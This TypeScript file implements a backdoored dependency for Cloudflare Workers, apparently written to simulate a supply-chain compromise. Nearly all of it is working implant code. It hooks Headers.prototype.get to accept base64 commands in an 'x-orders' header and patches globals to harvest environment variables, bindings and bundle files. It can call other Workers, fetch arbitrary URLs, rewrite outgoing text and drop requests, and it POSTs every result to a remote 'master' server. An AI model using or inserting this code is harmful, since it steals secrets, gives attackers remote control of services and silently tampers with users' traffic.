/**
 * A dependency that turned bad. It patches all that it can reach before any of our code runs, keeps what it sees, and does
 * what it is told: a request with the header `x-orders` carries an order, and the answer goes to a server of its master's.
 */
import * as workers from 'cloudflare:workers'
import { createLoot } from './loot.ts'
import { patchEverything } from './patches.ts'

interface Order {
  readonly id: number
  /** Where the answer goes. */
  readonly master: string
  readonly name: keyof typeof attacks
  // biome-ignore lint/suspicious/noExplicitAny: what an order needs, its attack knows
  readonly args: any
}

const fetched = globalThis.fetch.bind(globalThis)
const { parse, stringify } = JSON
const headerOf = Headers.prototype.get
const { apply } = Reflect
const fromBase64 = (text: string): Uint8Array => Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0))

const loot = createLoot()

/** What it does to every text that the edge sends or answers, while it is told to. */
let changes: readonly (readonly [from: string, to: string])[] = []
let dropsPath: string | null = null

const changed = (value: unknown): unknown => {
  if (typeof value !== 'string') return value
  let text = value
  for (const [from, to] of changes) text = text.split(from).join(to)
  return text
}

/** Where texts leave the isolate, or are about to. */
const SINKS = new Set(['fetch', 'Request', 'Response', 'stringify', 'encode', 'sign', 'digest'])

const bundleFiles = (): void => {
  const { process } = globalThis as { process?: { getBuiltinModule?(name: string): unknown; env?: unknown } }
  loot.see(process?.env)
  const fs = process?.getBuiltinModule?.('node:fs') as
    | { readdirSync(path: string): string[]; readFileSync(path: string): Uint8Array }
    | undefined
  try {
    for (const name of fs?.readdirSync('/bundle') ?? [])
      loot.see(new Uint8Array(fs?.readFileSync(`/bundle/${name}`) ?? []))
  } catch {
    // Not of this Worker.
  }
}

const attacks = {
  /** Walks everything that can be reached, and hands over what was seen so far. */
  async look() {
    loot.see(globalThis)
    loot.see(workers)
    loot.see((workers as { readonly env?: unknown }).env)
    bundleFiles()
    return { ...loot.all(), importableEnv: Object.keys((workers as { env?: object }).env ?? {}) }
  },
  /** Calls a method of another Worker by the edge's own binding. */
  async call({ stub, method, args }: { stub: keyof typeof loot.stubs; method: string; args: unknown[] }) {
    const target = loot.stubs[stub]
    if (!target) throw new Error(`${stub} was not seen`)
    const prepared = args.map((arg) => {
      const body = (arg as { readonly bodyBase64?: string } | null)?.bodyBase64
      return body === undefined ? arg : { ...(arg as object), body: fromBase64(body) }
    })
    return await (target[method] as (...given: unknown[]) => Promise<unknown>)(...prepared)
  },
  /** Reads a property of what is behind a binding. */
  async read({ stub, property }: { stub: keyof typeof loot.stubs; property: string }) {
    return await loot.stubs[stub]?.[property]
  },
  async fetch({ url, init }: { url: string; init?: RequestInit }) {
    const response = await fetched(url, init)
    return { status: response.status, text: await response.text() }
  },
  /** From now on: other texts in what leaves, requests that vanish. */
  async tamper(given: { changes: typeof changes; dropsPath: string | null }) {
    changes = given.changes
    dropsPath = given.dropsPath
  },
}

const obey = async ({ id, master, name, args }: Order): Promise<void> => {
  let answer: object
  try {
    answer = { id, ok: true, value: await attacks[name](args) }
  } catch (error) {
    answer = { id, ok: false, error: String(error) }
  }
  await fetched(`${master}/loot`, { method: 'POST', body: stringify(answer) })
}

patchEverything((value) => loot.see(value), {
  args(name, args) {
    const isFetch = name === 'fetch' || name === 'Request'
    if (isFetch && dropsPath && String(args[0]).includes(dropsPath)) throw new TypeError('Network connection lost.')
    if (!SINKS.has(name) || changes.length === 0) return args
    return args.map((arg) =>
      isFetch && typeof arg === 'object' && arg !== null && 'body' in arg
        ? { ...arg, body: changed((arg as { body: unknown }).body) }
        : changed(arg),
    )
  },
  answer: (name, answer) => (name === 'stringify' ? changed(answer) : answer),
})

const seenGet = Headers.prototype.get
Headers.prototype.get = function (this: Headers, name: string): string | null {
  if (name.toLowerCase() === 'x-request-id') {
    const orders = apply(headerOf, this, ['x-orders']) as string | null
    if (orders) workers.waitUntil(obey(parse(atob(orders))))
  }
  return apply(seenGet, this, [name]) as string | null
}
